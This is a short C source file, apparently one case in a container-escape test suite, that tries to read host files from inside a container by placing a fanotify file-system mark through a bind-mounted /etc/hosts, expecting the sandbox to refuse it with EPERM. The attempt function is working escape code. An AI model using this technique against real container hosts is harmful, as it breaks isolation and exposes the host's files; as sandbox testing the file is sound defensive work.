// SPDX-License-Identifier: GPL-2.0-only
/*
 * Fanotify hands its listener an open descriptor of each file that anybody
 * touches. A mark on the file system behind any bind mount, /etc/hosts say,
 * is enough to read what the host reads there. fanotify_mark(2) on
 * FAN_MARK_FILESYSTEM; the reach of shocker.c (2014) without a handle.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <string.h>
#include <sys/fanotify.h>
#include <sys/prctl.h>
#include <sys/wait.h>
#include <unistd.h>
#include <linux/capability.h>

#include "escape.h"

#define PATIENCE_MS	5000

static pid_t reader;

/* The host uses its disk. */
static void start_reader(struct args *a)
{
	disk_make(a);
	reader = fork();
	if (reader)
		return;
	prctl(PR_SET_PDEATHSIG, SIGKILL);
	for (;;) {
		int fd = open(DISK_SECRET, O_RDONLY);

		close(fd);
		usleep(50000);
	}
}

static void end_reader(void)
{
	kill(reader, SIGKILL);
	waitpid(reader, NULL, 0);
	disk_remove();
}

static int attempt(const struct args *a)
{
	int fd = fanotify_init(FAN_CLASS_NOTIF, O_RDONLY);
	struct pollfd p = { fd, POLLIN, 0 };
	struct fanotify_event_metadata event;
	char text[64] = "";

	(void)a;
	if (fd < 0 || fanotify_mark(fd, FAN_MARK_ADD | FAN_MARK_FILESYSTEM, FAN_OPEN,
				    AT_FDCWD, "/etc/hosts"))
		return errno;
	if (poll(&p, 1, PATIENCE_MS) != 1)
		return ETIMEDOUT;
	if (read(fd, &event, sizeof(event)) != sizeof(event))
		return errno;
	return pread(event.fd, text, sizeof(text) - 1, 0) < 0 ? errno : is_secret(text);
}

const struct escape fanotify[] = {
	{ "the host's files by a fanotify mark on their file system",
	  { .caps = CAP(CAP_SYS_ADMIN),
	    .volumes = { DISK_MOUNT "/hosts", "/etc/hosts" } },
	  start_reader, .attempt = attempt, .restore = end_reader, .error = EPERM,
	  .act = BULKHEAD_ACT_HANDLE, .rule = "preset open-by-handle" },
	{ NULL }
};
